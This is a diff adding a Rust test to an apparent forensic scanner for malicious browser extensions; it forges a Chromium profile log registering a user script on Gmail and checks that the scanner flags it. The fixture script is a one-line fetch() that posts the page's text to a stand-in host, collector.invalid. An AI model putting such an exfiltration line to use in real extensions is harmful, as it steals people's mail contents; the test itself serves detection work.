@@ -330,3 +330,45 @@ fn an_unpacked_copy_of_a_store_package_with_its_key() {
     );
     assert!(extension.verdict >= Verdict::Suspicious, "{rules:?}");
 }
+
+/// A browser's own log of registered scripts, with one batch: code that is in no file.
+fn extension_scripts(id: &ExtensionId, code: &str) -> Vec<u8> {
+    let value = json!([{
+        "id": "_du_x", "js": [{ "code": code }], "matches": ["https://mail.google.com/*"], "source": "DYNAMIC_USER_SCRIPT",
+        "world": "USER_SCRIPT",
+    }])
+    .to_string();
+    let sized = |bytes: &[u8]| {
+        let (mut out, mut left) = (Vec::new(), bytes.len());
+        while left >= 0x80 {
+            out.push(left as u8 | 0x80);
+            left >>= 7;
+        }
+        out.push(left as u8);
+        [&out, bytes].concat()
+    };
+    let key = format!("{id}.dynamic_scripts");
+    let batch =
+        [&1_u64.to_le_bytes()[..], &1_u32.to_le_bytes(), &[1], &sized(key.as_bytes()), &sized(value.as_bytes())].concat();
+    let crc = batch.iter().fold(crc_of(!0, 1), |crc, byte| crc_of(crc, *byte));
+    let crc = (!crc).rotate_right(15).wrapping_add(0xa282_ead8);
+    [&crc.to_le_bytes()[..], &(batch.len() as u16).to_le_bytes(), &[1], &batch].concat()
+}
+
+/// One byte more of a CRC-32C.
+fn crc_of(crc: u32, byte: u8) -> u32 {
+    (0..8).fold(crc ^ u32::from(byte), |crc, _| if crc & 1 == 1 { 0x82f6_3b78 ^ (crc >> 1) } else { crc >> 1 })
+}
+
+#[test]
+fn code_that_is_kept_in_the_profile_is_read_like_a_file() {
+    let image = tempfile::tempdir().unwrap();
+    let id = sharpext_shape(image.path(), SID);
+    let data = image.path().join("Users/kim/AppData/Local/Chromium/User Data/Default");
+    let code = "fetch('https://collector.invalid/in', { method: 'POST', body: document.body.innerText });";
+    write(&data.join("Extension Scripts/000003.log"), extension_scripts(&id, code));
+    let report = scan_image(image.path());
+    let extension = find(&report, id.as_str());
+    assert!(rules(extension).contains("runs-code-kept-in-profile"), "{:?}", rules(extension));
+    assert!(extension.contacts.iter().any(|contact| contact.host == "collector.invalid"), "{:?}", extension.contacts);
+}
